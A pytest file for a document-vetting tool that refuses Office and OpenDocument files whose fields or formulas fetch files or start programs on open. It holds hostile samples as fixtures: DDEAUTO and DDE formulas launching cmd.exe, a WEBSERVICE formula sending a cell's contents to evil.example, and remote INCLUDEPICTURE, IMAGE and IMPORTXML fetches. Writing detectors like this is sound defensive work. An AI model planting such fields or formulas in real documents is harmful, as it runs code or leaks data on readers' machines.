"""A formula or field that fetches a file or starts a program as its document opens is refused; plain ones are kept."""

from __future__ import annotations

import pytest
from file_samples import vet_written
from file_vetting.formulas import running
from file_vetting.office import clean_office
from file_vetting.svg import Refused
from metadata_samples import W, hostile_docx, hostile_opendocument, hostile_xlsx

MARKER = "Zq7Xw-Marker-Person"
SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
TABLE = ('xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
         'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
         'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"')


def _field(*pieces, result="shown", declare=True):
    """Return a Word paragraph holding one field whose instruction is written in ``pieces``, one run each."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return (f'<w:p{" " + W if declare else ""}><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/>'
            f'</w:r><w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


RUNNING = {
    "ddeauto-field": _field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '),
    "dde-field-in-pieces": _field(" DD", "EAUTO cmd ", '"/c calc"'),
    "includepicture-field": _field(' INCLUDEPICTURE "https://evil.example/pixel.png" '),
    "simple-field": f'<w:p {W}><w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\\\\\evil.example\\\\s\\\\a.docx&quot; "/></w:p>',
    "webservice": f'<worksheet {SHEET}><sheetData><row><c r="A1"><f>WEBSERVICE("https://evil.example/?"&amp;B1)</f>'
                  "</c></row></sheetData></worksheet>",
    "image": f'<worksheet {SHEET}><sheetData><row><c r="A1"><f>_xlfn.IMAGE("https://evil.example/t.png")</f></c></row>'
             "</sheetData></worksheet>",
    "dde-formula": f'<worksheet {SHEET}><sheetData><row><c r="A1"><f>cmd|\' /C calc\'!A0</f></c></row></sheetData>'
                   "</worksheet>",
    "defined-name": f'<workbook {SHEET}><definedNames><definedName name="x">RTD("a",,"b")</definedName></definedNames>'
                    "</workbook>",
    "dde-link": f'<externalLink {SHEET}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    "ods-formula": f'<office:document-content {TABLE}><table:table-cell table:formula="of:=WEBSERVICE(&quot;'
                   'https://evil.example/&quot;)"/></office:document-content>',
    "web-query": f'<connections {SHEET}><connection id="1" name="q" type="4" refreshOnLoad="1"><webPr '
                 'url="https://evil.example/q"/></connection></connections>',
    "mail-merge": f'<w:settings {W}><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:connectString '
                  'w:val="DSN=x"/><w:query w:val="SELECT * FROM t"/></w:mailMerge></w:settings>',
    "importxml": f'<worksheet {SHEET}><sheetData><row><c r="A1"><f>IMPORTXML("https://evil.example/","//a")</f></c>'
                 "</row></sheetData></worksheet>",
    "dde-quoted-program": f'<worksheet {SHEET}><sheetData><row><c r="A1"><f>\'cmd\'|\'/c calc\'!A0</f></c></row>'
                          "</sheetData></worksheet>",
    "dde-after-quotes": f'<worksheet {SHEET}><sheetData><row><c r="A1"><f>"x"&amp;cmd|\'/c calc\'!A0</f></c></row>'
                        "</sheetData></worksheet>",
    "odt-dde": f'<office:document-content {TABLE}><text:dde-connection-decls><text:dde-connection-decl '
               'text:name="x"/></text:dde-connection-decls></office:document-content>',
}
PLAIN = {
    "page-field": _field(" PAGE "),
    "hyperlink-field": _field(' HYPERLINK "https://example.org/" '),
    "link-in-the-shown-result": _field(" PAGE ", result="LINK to the minutes"),
    "sum": f'<worksheet {SHEET}><sheetData><row><c r="A1"><f>SUM(B1:B9)</f></c><c r="A2"><f>HYPERLINK("https://'
           'example.org/","site")</f></c></row></sheetData></worksheet>',
    "text-naming-a-function": f'<sst {SHEET}><si><t>Use IMAGE( or a | to separate</t></si></sst>',
    "toc-field": _field(' TOC \\o "1-3" \\h \\z \\u '),
    "sheet-named-with-a-bar": f'<worksheet {SHEET}><sheetData><row><c r="A1"><f>SUM(\'Q1 | Q2\'!B1:B9)</f></c></row>'
                              "</sheetData></worksheet>",
    "join-with-a-bar": f'<worksheet {SHEET}><sheetData><row><c r="A1"><f>B1&amp;" | "&amp;C1</f></c></row></sheetData>'
                       "</worksheet>",
    "ods-sum": f'<office:document-content {TABLE}><table:table-cell table:formula="of:=SUM([.A1:.A3])"/>'
               "</office:document-content>",
}


@pytest.mark.parametrize("name", sorted(RUNNING))
def test_what_runs_or_fetches_as_the_file_opens_is_found(name):
    assert running(RUNNING[name].encode()) is not None


@pytest.mark.parametrize("name", sorted(PLAIN))
def test_plain_formulas_and_fields_are_not(name):
    assert running(PLAIN[name].encode()) is None


@pytest.mark.parametrize(("kind", "make"), [
    ("docx", lambda: hostile_docx(MARKER, body=_field(" DD", "EAUTO cmd ", '"/c calc"', declare=False))),
    ("xlsx", lambda: hostile_xlsx(MARKER, extra_parts=[("xl/worksheets/sheet1.xml", RUNNING["webservice"])])),
    ("ods", lambda: hostile_opendocument(MARKER, "ods", body='<table:table-cell table:formula="of:=WEBSERVICE('
                                         '&quot;https://evil.example/&quot;)"/>')),
])
def test_a_document_that_runs_or_fetches_as_it_opens_is_refused_with_what_to_do(kind, make, tmp_path):
    data = make()
    with pytest.raises(Refused, match="makes the program opening it fetch a file or start another program") as refused:
        clean_office(kind, data)
    assert "Paste Special > Values" in refused.value.hint and "Ctrl+Shift+F9" in refused.value.hint
    [problem] = vet_written(tmp_path, f"report.{kind}", data)
    assert "cannot be published: it has a" in problem.message


def test_a_mail_merge_is_refused_with_how_to_remove_it():
    data = hostile_docx(MARKER, extra_parts=[("word/settings2.xml", RUNNING["mail-merge"])])
    with pytest.raises(Refused, match="link to a data source") as refused:
        clean_office("docx", data)
    assert "Normal Word Document" in refused.value.hint


def test_a_document_with_plain_fields_and_formulas_is_published():
    fields = "".join(_field(field, declare=False) for field in (
        " PAGE ", " NUMPAGES ", ' TOC \\o "1-3" \\h \\z \\u ', ' HYPERLINK "https://example.org/" ', " DATE \\@ \"d MMMM yyyy\" "))
    clean_office("docx", hostile_docx(MARKER, body=fields))
    clean_office("xlsx", hostile_xlsx(MARKER, extra_parts=[("xl/worksheets/sheet1.xml", PLAIN["sum"])]))
